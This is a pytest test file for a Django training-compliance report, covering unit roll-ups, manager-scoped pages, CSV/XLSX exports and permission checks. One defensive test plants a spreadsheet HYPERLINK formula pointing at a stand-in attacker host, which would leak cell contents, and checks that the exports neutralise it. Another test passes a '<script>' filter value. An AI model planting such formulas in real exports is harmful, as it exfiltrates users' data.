"""Compliance report (admin), the unit manager's page, their exports, and who may see what."""

import csv
import datetime
import io
import zipfile

import openpyxl
import pytest
from django.core.management import CommandError, call_command
from django.db import connection
from django.db.models import F
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone

from accounts import roles
from accounts.models import OrganisationUnit, User
from accounts.selectors import managed_units
from core.exports import EXPORT_FORMATS
from core.localtime import local_today
from courses.models import Assignment, AssignmentState, TrainingRequirement
from courses.training import compliance
from tests.accounts.factories import OrganisationUnitFactory, UserFactory
from tests.courses.factories import course_create
from tests.support.browser import axe_violations

pytestmark = pytest.mark.django_db

TODAY = local_today()
DAY = datetime.timedelta(days=1)

REPORT = reverse("courses_compliance_report")
PEOPLE = reverse("courses_compliance_people")
TEAM = reverse("courses:team")


def export_url(name, fmt):
    return reverse(name, args=[fmt])


# Data --------------------------------------------------------------------------------------------


def servant(unit, name):
    return UserFactory(organisation_unit=unit, kind=User.Kind.CIVIL_SERVANT, full_name=name)


def assign(user, requirement, *, status="open", due=TODAY, started=False, cycle=1, current=True):
    unit = user.organisation_unit
    now = timezone.now()
    return Assignment.objects.create(
        requirement=requirement,
        user=user,
        cycle=cycle,
        is_current=current,
        unit=unit,
        unit_path=unit.path if unit else "",
        due_on=due,
        status=status,
        started_at=now if started or status == "completed" else None,
        completed_at=now - 5 * DAY if status == "completed" else None,
    )


def refreshed(*units):
    for unit in units:
        unit.refresh_from_db()
    return units


@pytest.fixture
def org(home_page):
    """Province → communes A and B → divisions A1, A2 (under A) and B1 (under B), with people.

    On TODAY, under A: 6 counted assignments (1 completed, 2 overdue, 1 in progress, 1 not started,
    1 exempt) plus a cancelled one and an earlier cycle, neither counted. Under B: 2 (1 completed,
    1 not started). The province's own person: 1 completed.
    """
    province = OrganisationUnitFactory(name="Tỉnh Thử", code="P", kind=OrganisationUnit.Kind.PROVINCE)
    a = OrganisationUnitFactory(name="Xã A", code="A", parent=province)
    b = OrganisationUnitFactory(name="Xã B", code="B", parent=province)
    a1 = OrganisationUnitFactory(name="Phòng A1", code="A1", parent=a, kind=OrganisationUnit.Kind.DIVISION)
    a2 = OrganisationUnitFactory(name="Phòng A2", code="A2", parent=a, kind=OrganisationUnit.Kind.DIVISION)
    b1 = OrganisationUnitFactory(name="Phòng B1", code="B1", parent=b, kind=OrganisationUnit.Kind.DIVISION)
    province, a, b, a1, a2, b1 = refreshed(province, a, b, a1, a2, b1)
    course = course_create(home_page, title="An toàn thông tin")
    r1 = TrainingRequirement.objects.create(name="Yêu cầu 1", course=course, due_rule="fixed", due_on=TODAY)
    r2 = TrainingRequirement.objects.create(name="Yêu cầu 2", course=course, due_rule="fixed", due_on=TODAY)
    people = {
        "p0": servant(province, "Phạm Tỉnh"),
        "a0": servant(a, "Lê Xã A"),
        "a1x": servant(a1, "Nguyễn Ánh"),
        "a1y": servant(a1, "Trần Bình"),
        "a2x": servant(a2, "Đỗ Cường"),
        "b0": servant(b, "Vũ Xã B"),
        "b1x": servant(b1, "Hồ Đông"),
    }
    assign(people["a1x"], r1, status="completed", due=TODAY - 30 * DAY)
    assign(people["a1x"], r2, due=TODAY - DAY)  # overdue: the day after its due date
    assign(people["a1y"], r1, due=TODAY, started=True)  # due today: in progress, not overdue
    assign(people["a1y"], r2, due=TODAY + 10 * DAY)  # not started
    assign(people["a2x"], r1, status="exempt", due=TODAY - 30 * DAY)
    assign(people["a2x"], r2, status="cancelled", due=TODAY - 30 * DAY)  # not counted
    assign(people["a0"], r1, status="completed", due=TODAY - 400 * DAY, cycle=1, current=False)  # history
    assign(people["a0"], r1, due=TODAY - 10 * DAY, started=True, cycle=2)  # overdue
    assign(people["b0"], r1, status="completed", due=TODAY - 30 * DAY)
    assign(people["b1x"], r1, due=TODAY + DAY)  # not started
    assign(people["p0"], r1, status="completed", due=TODAY - 30 * DAY)
    units = {"province": province, "a": a, "b": b, "a1": a1, "a2": a2, "b1": b1}
    return {**units, "units": units, "people": people, "r1": r1, "r2": r2}


def figures(row):
    return (row.assigned, row.completed, row.in_progress, row.not_started, row.overdue, row.exempt)


def by_label(result):
    return {row.label: figures(row) for row in result.rows}


# Roll-up -----------------------------------------------------------------------------------------


class TestRollup:
    def test_children_include_their_descendants(self, org):
        result = compliance.rollup(parent=org["province"], today=TODAY)
        #                       assigned, completed, in progress, not started, overdue, exempt
        assert by_label(result) == {"Xã A": (6, 1, 1, 1, 2, 1), "Xã B": (2, 1, 0, 1, 0, 0)}
        assert figures(result.direct) == (1, 1, 0, 0, 0, 0)
        assert figures(result.total) == (9, 3, 1, 2, 2, 1)
        assert result.extra == []

    def test_completion_rate_leaves_exempt_people_out(self, org):
        result = compliance.rollup(parent=org["province"], today=TODAY)
        rates = {row.label: row.rate for row in result.rows}
        assert rates == {"Xã A": 20.0, "Xã B": 50.0}  # A: 1 of (6 − 1 exempt); B: 1 of 2
        drill = compliance.rollup(parent=org["a"], today=TODAY)
        assert {row.label: row.rate for row in drill.rows} == {"Phòng A1": 25.0, "Phòng A2": None}

    def test_drill_down_to_a_communes_divisions(self, org):
        result = compliance.rollup(parent=org["a"], today=TODAY)
        assert [row.unit for row in result.rows] == [org["a1"], org["a2"]]
        assert by_label(result) == {"Phòng A1": (4, 1, 1, 1, 1, 0), "Phòng A2": (1, 0, 0, 0, 0, 1)}
        assert figures(result.direct) == (1, 0, 0, 0, 1, 0)  # A's own person, overdue (current cycle only)
        assert figures(result.total) == (6, 1, 1, 1, 2, 1)

    def test_a_unit_without_assignments_shows_zeros(self, org):
        result = compliance.rollup(parent=org["b"], today=TODAY)
        assert by_label(result) == {"Phòng B1": (1, 0, 0, 1, 0, 0)}
        leaf = compliance.rollup(parent=org["b1"], today=TODAY)
        assert leaf.rows == [] and figures(leaf.direct) == (1, 0, 0, 1, 0, 0)

    def test_first_page_is_the_whole_organisation(self, org):
        nobody = UserFactory(kind=User.Kind.CIVIL_SERVANT, full_name="Không Đơn Vị")
        assign(nobody, org["r1"], due=TODAY + DAY)
        top = compliance.top_unit()
        assert top == org["province"]
        result = compliance.rollup(parent=top, today=TODAY, everything=True)
        assert by_label(result) == {"Xã A": (6, 1, 1, 1, 2, 1), "Xã B": (2, 1, 0, 1, 0, 0)}
        assert [(row.kind, figures(row)) for row in result.extra] == [("none", (1, 0, 0, 1, 0, 0))]
        assert result.total.assigned == 10

    def test_roots_when_there_are_several(self, org):
        other = OrganisationUnitFactory(name="Tỉnh Xa", code="Q", kind=OrganisationUnit.Kind.PROVINCE)
        assign(servant(other, "Người Tỉnh Xa"), org["r1"], due=TODAY - DAY)
        assert compliance.top_unit() is None
        result = compliance.rollup(parent=None, today=TODAY)
        assert by_label(result) == {"Tỉnh Thử": (9, 3, 1, 2, 2, 1), "Tỉnh Xa": (1, 0, 0, 0, 1, 0)}

    def test_overdue_starts_the_day_after_the_due_date(self, org):
        def a1(today):
            return {row.label: figures(row) for row in compliance.rollup(parent=org["a"], today=today).rows}["Phòng A1"]

        assert a1(TODAY) == (4, 1, 1, 1, 1, 0)  # a1y's R1 is due today: still in progress
        assert a1(TODAY + DAY) == (4, 1, 0, 1, 2, 0)  # the day after: overdue
        assert a1(TODAY - DAY) == (4, 1, 1, 2, 0, 0)  # the day before, a1x's R2 was not yet overdue

    @pytest.mark.parametrize("today_offset", [-1, 0, 1, 11])
    def test_counts_agree_with_the_assignment_states(self, org, today_offset):
        """The roll-up's conditions are those of AssignmentQuerySet.state_filter and with_state."""
        today = TODAY + today_offset * DAY
        total = compliance.rollup(parent=org["province"], today=today).total
        counted = Assignment.objects.current().exclude(status="cancelled")
        for state in compliance.STATE_COLUMNS:
            assert total.counts.get(state.value, 0) == counted.state_filter(state, today).count(), state
            assert total.counts.get(state.value, 0) == counted.with_state(today).filter(state=state).count(), state
        assert total.assigned == counted.count()

    def test_filters(self, org):
        def rollup(**filters):
            return by_label(
                compliance.rollup(parent=org["province"], filters=compliance.Filters(**filters), today=TODAY)
            )

        assert rollup(requirement_id=org["r2"].pk) == {"Xã A": (2, 0, 0, 1, 1, 0), "Xã B": (0, 0, 0, 0, 0, 0)}
        assert rollup(state=AssignmentState.OVERDUE) == {"Xã A": (2, 0, 0, 0, 2, 0), "Xã B": (0, 0, 0, 0, 0, 0)}
        assert rollup(state=AssignmentState.COMPLETED) == {"Xã A": (1, 1, 0, 0, 0, 0), "Xã B": (1, 1, 0, 0, 0, 0)}
        assert rollup(due_from=TODAY, due_to=TODAY + DAY) == {"Xã A": (1, 0, 1, 0, 0, 0), "Xã B": (1, 0, 0, 1, 0, 0)}

    def test_units_of_a_manager(self, org):
        result = compliance.rollup_of_units(units=[org["a1"], org["b"]], today=TODAY)
        assert by_label(result) == {"Phòng A1": (4, 1, 1, 1, 1, 0), "Xã B": (2, 1, 0, 1, 0, 0)}
        assert figures(result.total) == (6, 2, 1, 2, 1, 0)

    def test_managed_units_drop_units_inside_others(self, org):
        manager = UserFactory()
        for unit in (org["a1"], org["a"], org["b1"]):
            unit.managers.add(manager)
        assert managed_units(user=manager) == [org["a"], org["b1"]]


class TestPeople:
    def test_people_under_a_unit_by_unit_then_name(self, org):
        rows = list(compliance.people(paths=[org["a"].path], today=TODAY))
        assert [(row.user.full_name, row.requirement.name, row.state) for row in rows] == [
            ("Lê Xã A", "Yêu cầu 1", AssignmentState.OVERDUE),
            ("Nguyễn Ánh", "Yêu cầu 1", AssignmentState.COMPLETED),
            ("Nguyễn Ánh", "Yêu cầu 2", AssignmentState.OVERDUE),
            ("Trần Bình", "Yêu cầu 1", AssignmentState.IN_PROGRESS),
            ("Trần Bình", "Yêu cầu 2", AssignmentState.NOT_STARTED),
            ("Đỗ Cường", "Yêu cầu 1", AssignmentState.EXEMPT),
        ]

    def test_direct_members_only(self, org):
        rows = list(compliance.people(paths=[org["a"].path], direct_path=org["a"].path, today=TODAY))
        assert [row.user.full_name for row in rows] == ["Lê Xã A"]

    def test_filtered_by_state(self, org):
        filters = compliance.Filters(state=AssignmentState.OVERDUE)
        rows = compliance.people(paths=None, filters=filters, today=TODAY)
        assert sorted(row.user.full_name for row in rows) == ["Lê Xã A", "Nguyễn Ánh"]


# Admin report ------------------------------------------------------------------------------------


@pytest.fixture
def admin_client(client):
    client.force_login(UserFactory(training_admin=True))
    return client


def csv_rows(response):
    assert response["Content-Type"].startswith("text/csv")
    assert response.content.startswith(b"\xef\xbb\xbf")  # UTF-8 byte-order mark, for Excel
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def _sheet_xml(content):
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return b"".join(archive.read(name) for name in archive.namelist() if name.startswith("xl/worksheets/"))


def xlsx_rows(response):
    assert response["Content-Type"] == EXPORT_FORMATS["xlsx"]
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    return [list(row) for row in sheet.iter_rows(values_only=True)]


class TestAdminReport:
    def test_first_page_rolls_up_the_province(self, admin_client, org):
        response = admin_client.get(REPORT)
        assert response.status_code == 200
        result = response.context["result"]
        assert by_label(result) == {"Xã A": (6, 1, 1, 1, 2, 1), "Xã B": (2, 1, 0, 1, 0, 0)}
        html = response.content.decode()
        assert f"?unit={org['a'].pk}" in html  # drill down to A's divisions
        assert f"{PEOPLE}?unit={org['a'].pk}" in html  # and to A's people

    def test_drill_down(self, admin_client, org):
        response = admin_client.get(REPORT, {"unit": org["a"].pk})
        assert response.status_code == 200
        assert by_label(response.context["result"]) == {"Phòng A1": (4, 1, 1, 1, 1, 0), "Phòng A2": (1, 0, 0, 0, 0, 1)}
        assert response.context["ancestors"] == [org["province"]]
        assert f"{PEOPLE}?unit={org['a'].pk}&amp;direct=1" in response.content.decode()

    def test_filters_carry_into_the_figures_and_links(self, admin_client, org):
        response = admin_client.get(REPORT, {"requirement": org["r2"].pk, "state": "overdue"})
        assert by_label(response.context["result"]) == {"Xã A": (1, 0, 0, 0, 1, 0), "Xã B": (0, 0, 0, 0, 0, 0)}
        assert f"requirement={org['r2'].pk}&amp;state=overdue" in response.content.decode()

    @pytest.mark.parametrize(
        "params",
        [
            {"unit": "abc"},
            {"requirement": "999999"},
            {"requirement": "x"},
            {"state": "cancelled"},
            {"state": "<script>"},
            {"due_from": "31/02/2026"},
            {"due_from": "2026-12-31", "due_to": "2026-01-01"},
        ],
    )
    def test_invalid_filters_give_an_error_not_a_crash(self, admin_client, org, params):
        response = admin_client.get(REPORT, params)
        assert response.status_code == 200
        assert response.context["form"].errors
        assert "result" not in response.context
        assert admin_client.get(PEOPLE, params).status_code == 200
        assert admin_client.get(export_url("courses_compliance_export", "csv"), params).status_code == 400
        assert admin_client.get(export_url("courses_compliance_people_export", "xlsx"), params).status_code == 400

    def test_unknown_unit_is_404(self, admin_client, org):
        assert admin_client.get(REPORT, {"unit": 999999}).status_code == 404
        assert admin_client.get(PEOPLE, {"unit": 999999}).status_code == 404
        assert admin_client.get(export_url("courses_compliance_export", "csv"), {"unit": 999999}).status_code == 404

    def test_unknown_export_format_is_404(self, admin_client, org):
        assert admin_client.get(export_url("courses_compliance_export", "pdf")).status_code == 404

    def test_people_page(self, admin_client, org):
        response = admin_client.get(PEOPLE, {"unit": org["a"].pk})
        assert response.status_code == 200
        assert response.context["page_obj"].paginator.count == 6
        html = response.content.decode()
        assert "Nguyễn Ánh" in html and "Vũ Xã B" not in html
        direct = admin_client.get(PEOPLE, {"unit": org["a"].pk, "direct": "1"})
        assert [a.user.full_name for a in direct.context["page_obj"]] == ["Lê Xã A"]

    def test_rollup_exports(self, admin_client, org):
        rows = csv_rows(admin_client.get(export_url("courses_compliance_export", "csv"), {"unit": org["a"].pk}))
        assert len(rows[0]) == 9
        #            unit, code, assigned, completed, in progress, not started, overdue, exempt, rate
        assert rows[1] == ["Phòng A1", "A1", "4", "1", "1", "1", "1", "0", "25.0"]
        assert rows[2] == ["Phòng A2", "A2", "1", "0", "0", "0", "0", "1", ""]
        assert rows[3][1:] == ["A", "1", "0", "0", "0", "1", "0", "0.0"]  # A's own people
        assert rows[4][1:] == ["", "6", "1", "1", "1", "2", "1", "20.0"]  # total
        sheet = xlsx_rows(admin_client.get(export_url("courses_compliance_export", "xlsx"), {"unit": org["a"].pk}))
        assert sheet[1] == ["Phòng A1", "A1", 4, 1, 1, 1, 1, 0, 25.0]
        assert len(sheet) == 5

    def test_people_exports(self, admin_client, org):
        params = {"unit": org["a"].pk, "state": "overdue"}
        response = admin_client.get(export_url("courses_compliance_people_export", "csv"), params)
        assert 'filename="compliance-people-A-' in response["Content-Disposition"]
        rows = csv_rows(response)
        assert [(row[0], row[3], row[5], row[7]) for row in rows[1:]] == [
            ("Lê Xã A", "Xã A", "Yêu cầu 1", (TODAY - 10 * DAY).isoformat()),
            ("Nguyễn Ánh", "Phòng A1", "Yêu cầu 2", (TODAY - DAY).isoformat()),
        ]
        sheet = xlsx_rows(
            admin_client.get(export_url("courses_compliance_people_export", "xlsx"), {"unit": org["a"].pk})
        )
        assert len(sheet) == 7
        assert sheet[2][0] == "Nguyễn Ánh" and sheet[2][8].date() == timezone.localdate() - 5 * DAY

    def test_a_name_or_code_that_looks_like_a_formula_stays_text(self, admin_client, org):
        # A roster name and a unit code as an attacker would type them: raw in the CSV and a live
        # <f> formula in the XLSX before; now text in both.
        name = '=HYPERLINK("https://evil.example/?x="&A1,"Bấm vào đây")'
        User.objects.filter(pk=org["people"]["a0"].pk).update(full_name=name)
        OrganisationUnit.objects.filter(pk=org["a"].pk).update(name="=1+1")
        params = {"unit": org["a"].pk, "state": "overdue"}
        rows = csv_rows(admin_client.get(export_url("courses_compliance_people_export", "csv"), params))
        assert [row[0] for row in rows[1:]] == ["'" + name, "Nguyễn Ánh"]
        assert rows[1][3] == "'=1+1"
        response = admin_client.get(export_url("courses_compliance_people_export", "xlsx"), params)
        assert b"<f>" not in _sheet_xml(response.content)
        cells = openpyxl.load_workbook(io.BytesIO(response.content)).active
        first = list(cells[2])
        assert (first[0].value, first[0].data_type) == (name, "s")  # the name as it was typed, as text
        assert (first[3].value, first[3].data_type) == ("=1+1", "s")

    def test_too_large_an_export_is_refused(self, admin_client, org, monkeypatch):
        monkeypatch.setattr(compliance, "EXPORT_MAX_ROWS", {"csv": 3, "xlsx": 3})
        response = admin_client.get(export_url("courses_compliance_people_export", "csv"), {"unit": org["a"].pk})
        assert response.status_code == 302
        assert response["Location"].startswith(PEOPLE)

    def test_menu_item_only_for_those_who_may_see_it(self, client, org):
        client.force_login(UserFactory(training_admin=True))
        assert REPORT in client.get("/admin/").content.decode()
        client.force_login(UserFactory(officer=True))
        assert REPORT not in client.get("/admin/").content.decode()


def grow(org, units=8, people_per_unit=3):
    """More units (under A1) and people: nothing a page's query count may depend on."""
    for number in range(units):
        unit = OrganisationUnitFactory(name=f"Tổ {number:02d}", code=f"T{number:02d}", parent=org["a1"])
        for person in range(people_per_unit):
            assign(servant(unit, f"Người {number}-{person}"), org["r1"], due=TODAY + DAY, started=person % 2 == 0)
    org["a1"].refresh_from_db()


def query_count(client, url, params=None):
    client.get(url, params)  # warm caches (content types, site)
    with CaptureQueriesContext(connection) as queries:
        response = client.get(url, params)
    assert response.status_code == 200, response.status_code
    return len(queries)


class TestQueryCounts:
    def test_admin_pages_do_not_grow_with_units_or_people(self, admin_client, org):
        pages = [
            (REPORT, None),
            (REPORT, {"unit": org["a"].pk, "requirement": org["r1"].pk}),
            (PEOPLE, {"unit": org["a"].pk}),
            (export_url("courses_compliance_export", "csv"), {"unit": org["a"].pk}),
            (export_url("courses_compliance_people_export", "xlsx"), {"unit": org["a"].pk}),
        ]
        before = [query_count(admin_client, url, params) for url, params in pages]
        grow(org)
        after = [query_count(admin_client, url, params) for url, params in pages]
        assert before == after
        assert max(after) <= 20

    def test_team_page_does_not_grow_with_units_or_people(self, client, org):
        manager = UserFactory()
        org["a"].managers.add(manager)
        client.force_login(manager)
        pages = [
            (TEAM, None),
            (TEAM, {"unit": org["a"].pk, "state": "overdue"}),
            (reverse("courses:team_export", args=["csv"]), None),
            (reverse("courses:team_summary_export", args=["xlsx"]), None),
        ]
        before = [query_count(client, url, params) for url, params in pages]
        grow(org)
        after = [query_count(client, url, params) for url, params in pages]
        assert before == after
        assert max(after) <= 14


# The unit manager's page -------------------------------------------------------------------------


@pytest.fixture
def manager_of_a(org):
    manager = UserFactory(unit_manager=True, kind=User.Kind.CIVIL_SERVANT, full_name="Quản Lý A")
    org["a"].managers.add(manager)
    return manager


class TestTeamPage:
    def test_sees_their_unit_and_its_sub_units_only(self, client, org, manager_of_a):
        client.force_login(manager_of_a)
        response = client.get(TEAM)
        assert response.status_code == 200
        assert by_label(response.context["result"]) == {"Phòng A1": (4, 1, 1, 1, 1, 0), "Phòng A2": (1, 0, 0, 0, 0, 1)}
        html = response.content.decode()
        for name in ("Lê Xã A", "Nguyễn Ánh", "Trần Bình", "Đỗ Cường"):
            assert name in html
        for name in ("Vũ Xã B", "Hồ Đông", "Phạm Tỉnh"):
            assert name not in html
        assert response.context["page_obj"].paginator.count == 6

    def test_drill_down_and_filters(self, client, org, manager_of_a):
        client.force_login(manager_of_a)
        response = client.get(TEAM, {"unit": org["a1"].pk, "state": "overdue"})
        assert [a.user.full_name for a in response.context["page_obj"]] == ["Nguyễn Ánh"]
        response = client.get(TEAM, {"requirement": org["r2"].pk})
        assert response.context["page_obj"].paginator.count == 2
        response = client.get(TEAM, {"unit": org["a"].pk, "direct": "1"})
        assert [a.user.full_name for a in response.context["page_obj"]] == ["Lê Xã A"]

    @pytest.mark.parametrize("unit_key", ["b", "b1", "province"])
    def test_another_units_people_by_url_filter_or_export_are_404(self, client, org, manager_of_a, unit_key):
        client.force_login(manager_of_a)
        unit = org[unit_key].pk
        assert client.get(TEAM, {"unit": unit}).status_code == 404
        assert client.get(TEAM, {"unit": unit, "direct": "1", "state": "overdue"}).status_code == 404
        for name in ("courses:team_export", "courses:team_summary_export"):
            for fmt in ("csv", "xlsx"):
                assert client.get(reverse(name, args=[fmt]), {"unit": unit}).status_code == 404

    def test_a_unit_that_does_not_exist_is_404_too(self, client, org, manager_of_a):
        client.force_login(manager_of_a)
        assert client.get(TEAM, {"unit": 999999}).status_code == 404

    def test_manager_of_a_division_cannot_climb_to_the_commune(self, client, org):
        manager = UserFactory()
        org["a1"].managers.add(manager)
        client.force_login(manager)
        assert client.get(TEAM, {"unit": org["a1"].pk}).status_code == 200
        assert client.get(TEAM, {"unit": org["a"].pk}).status_code == 404
        rows = csv_rows(client.get(reverse("courses:team_export", args=["csv"])))
        assert sorted({row[0] for row in rows[1:]}) == ["Nguyễn Ánh", "Trần Bình"]

    def test_manager_of_two_units_sees_both_as_rows(self, client, org):
        manager = UserFactory()
        org["a1"].managers.add(manager)
        org["b"].managers.add(manager)
        client.force_login(manager)
        response = client.get(TEAM)
        assert by_label(response.context["result"]) == {"Phòng A1": (4, 1, 1, 1, 1, 0), "Xã B": (2, 1, 0, 1, 0, 0)}
        assert response.context["page_obj"].paginator.count == 6
        assert client.get(TEAM, {"unit": org["a2"].pk}).status_code == 404

    def test_exports_hold_exactly_what_the_manager_sees(self, client, org, manager_of_a):
        client.force_login(manager_of_a)
        rows = csv_rows(client.get(reverse("courses:team_export", args=["csv"])))
        assert sorted(row[0] for row in rows[1:]) == sorted(
            ["Lê Xã A", "Nguyễn Ánh", "Nguyễn Ánh", "Trần Bình", "Trần Bình", "Đỗ Cường"]
        )
        sheet = xlsx_rows(client.get(reverse("courses:team_export", args=["xlsx"]), {"unit": org["a2"].pk}))
        assert [row[0] for row in sheet[1:]] == ["Đỗ Cường"]
        summary = csv_rows(client.get(reverse("courses:team_summary_export", args=["csv"])))
        assert [row[0] for row in summary[1:3]] == ["Phòng A1", "Phòng A2"]

    def test_too_large_an_export_is_refused(self, client, org, manager_of_a, monkeypatch):
        monkeypatch.setattr(compliance, "EXPORT_MAX_ROWS", {"csv": 5, "xlsx": 5})
        client.force_login(manager_of_a)
        response = client.get(reverse("courses:team_export", args=["xlsx"]), {"state": ""})
        assert response.status_code == 302 and response["Location"].startswith(TEAM)
        assert client.get(reverse("courses:team_export", args=["csv"]), {"unit": org["a1"].pk}).status_code == 200

    def test_invalid_filters_give_an_error_not_a_crash(self, client, org, manager_of_a):
        client.force_login(manager_of_a)
        response = client.get(TEAM, {"state": "nope", "due_from": "hôm qua", "unit": "x"})
        assert response.status_code == 200
        assert set(response.context["form"].errors) == {"state", "due_from", "unit"}
        assert client.get(reverse("courses:team_export", args=["csv"]), {"state": "nope"}).status_code == 400

    def test_links_to_extension_decisions(self, client, org, manager_of_a):
        client.force_login(manager_of_a)
        html = client.get(TEAM).content.decode()
        assert reverse("courses:extension_decisions") in html

    def test_pagination(self, client, org, manager_of_a):
        grow(org, units=4, people_per_unit=15)  # 60 more assignments under A
        client.force_login(manager_of_a)
        first = client.get(TEAM)
        assert first.context["page_obj"].paginator.num_pages == 2
        second = client.get(TEAM, {"p": 2})
        assert len(second.context["page_obj"].object_list) == 66 - 50


# Who sees what -----------------------------------------------------------------------------------

ANONYMOUS, MANAGER = "anonymous", "manager"
ROLES = [
    ANONYMOUS,
    roles.CITIZEN,
    roles.CIVIL_SERVANT,
    MANAGER,
    roles.COMMUNICATIONS_STAFF,
    roles.TRAINING_ADMINISTRATOR,
    "superuser",
]
# role → (admin report, drill-down, people, exports (4), team page, team exports (3)).
# Wagtail sends people without admin access to its sign-in page (302), and those with admin
# access but without courses.view_assignment to the admin's home page with a message (302).
EXPECTED = {
    ANONYMOUS: ("login", "login", "login", "login", "sign-in", "sign-in"),
    roles.CITIZEN: (302, 302, 302, 302, 403, 403),
    roles.CIVIL_SERVANT: (302, 302, 302, 302, 403, 403),
    MANAGER: (302, 302, 302, 302, 200, 200),
    roles.COMMUNICATIONS_STAFF: (302, 302, 302, 302, 403, 403),
    roles.TRAINING_ADMINISTRATOR: (200, 200, 200, 200, 403, 403),
    "superuser": (200, 200, 200, 200, 403, 403),
}


@pytest.mark.parametrize("role", ROLES)
def test_permission_matrix(client, org, role):
    if role == MANAGER:
        user = UserFactory(unit_manager=True, kind=User.Kind.CIVIL_SERVANT)
        org["a"].managers.add(user)
    elif role != ANONYMOUS:
        user = UserFactory(role=role)
    if role != ANONYMOUS:
        client.force_login(user)
    a = org["a"].pk
    admin_urls = [
        [(REPORT, {})],
        [(REPORT, {"unit": a})],
        [(PEOPLE, {"unit": a})],
        [
            (export_url("courses_compliance_export", "csv"), {"unit": a}),
            (export_url("courses_compliance_export", "xlsx"), {}),
            (export_url("courses_compliance_people_export", "csv"), {"unit": a}),
            (export_url("courses_compliance_people_export", "xlsx"), {"unit": a}),
        ],
        [(TEAM, {}), (TEAM, {"unit": a})],
        [
            (reverse("courses:team_export", args=["csv"]), {}),
            (reverse("courses:team_export", args=["xlsx"]), {"unit": a}),
            (reverse("courses:team_summary_export", args=["csv"]), {}),
        ],
    ]
    for expected, urls in zip(EXPECTED[role], admin_urls, strict=True):
        for url, params in urls:
            response = client.get(url, params)
            if expected == "login":
                assert response.status_code == 302 and "/admin/login/" in response["Location"], url
            elif expected == "sign-in":
                assert response.status_code == 302 and reverse("accounts:sign_in") in response["Location"], url
            else:
                assert response.status_code == expected, (url, params)
            if expected == 302 and url.startswith("/admin/"):
                assert response["Location"] != url  # sent away, not served
            if response.status_code == 200:
                content = response.content if not response.streaming else b"".join(response.streaming_content)
                # Nobody sees another unit's people on a page or export they reach about unit A.
                if params.get("unit") == a:
                    assert "Vũ Xã B".encode() not in content


def test_a_manager_is_sent_away_from_the_admin_report(client, org, manager_of_a):
    client.force_login(manager_of_a)
    response = client.get(REPORT, {"unit": org["b"].pk})
    assert response.status_code == 302
    assert "Vũ Xã B" not in client.get(response["Location"]).content.decode()


# Data generator ----------------------------------------------------------------------------------


class TestGenerator:
    def test_generates_a_consistent_tree_people_and_assignments(self, home_page):
        call_command("generate_training_data", people=400, units=40, requirements=3, seed=7, stdout=io.StringIO())
        assert OrganisationUnit.objects.filter(code__startswith="GEN").count() == 40
        assert OrganisationUnit.find_problems() == ([], [], [], [], [])
        province = OrganisationUnit.objects.get(code="GEN")
        assert province.get_descendant_count() == 39
        assert User.objects.filter(employee_code__startswith="GEN").count() == 400
        current = Assignment.objects.current()
        assert current.count() == 400 * 3
        assert not current.exclude(unit_path=F("unit__path")).exists()
        states = set(current.with_state().values_list("state", flat=True))
        assert {"completed", "overdue", "in_progress", "not_started"} <= states
        assert Assignment.objects.filter(is_current=False).exists()
        assert OrganisationUnit.managers.through.objects.filter(organisationunit__code__startswith="GEN").exists()
        # The roll-up of the generated province adds up.
        result = compliance.rollup(parent=province)
        assert result.total.assigned == compliance.report_assignments().count()
        # Run again: nothing new.
        call_command("generate_training_data", people=400, units=40, requirements=3, seed=7, stdout=io.StringIO())
        assert User.objects.filter(employee_code__startswith="GEN").count() == 400

    def test_refuses_without_permission(self, settings, home_page):
        settings.DEMO_DATA_ALLOWED = False
        with pytest.raises(CommandError):
            call_command("generate_training_data", people=10, units=3, requirements=1, stdout=io.StringIO())
        assert not OrganisationUnit.objects.filter(code="GEN").exists()
        call_command("generate_training_data", people=10, units=3, requirements=1, force=True, stdout=io.StringIO())
        assert OrganisationUnit.objects.filter(code="GEN").exists()


# On a phone --------------------------------------------------------------------------------------


@pytest.fixture
def manager_session(org, client):
    """A session cookie of A's manager, made before the browser starts (no ORM calls under Playwright)."""
    manager = UserFactory(full_name="Quản Lý A")
    org["a"].managers.add(manager)
    client.force_login(manager)
    return client.cookies["sessionid"].value


@pytest.mark.browser
@pytest.mark.django_db(transaction=True, serialized_rollback=True)
@pytest.mark.parametrize("width", [360, 1280])
def test_team_page_has_no_wcag_violations_and_fits_a_phone(
    live_server, org, manager_session, axe_source, browser, width
):
    queries = ["", f"?unit={org['a1'].pk}&state=overdue", "?state=nope"]
    context = browser.new_context(viewport={"width": width, "height": 800})
    context.add_cookies([{"name": "sessionid", "value": manager_session, "url": live_server.url}])
    tab = context.new_page()
    try:
        for query in queries:
            tab.goto(f"{live_server.url}{TEAM}{query}")
            assert tab.locator("h1").count() == 1
            assert axe_violations(tab, axe_source) == [], query
            # Wide tables scroll inside their own region; the page itself does not scroll sideways.
            assert tab.evaluate("document.documentElement.scrollWidth <= window.innerWidth + 1"), query
    finally:
        context.close()
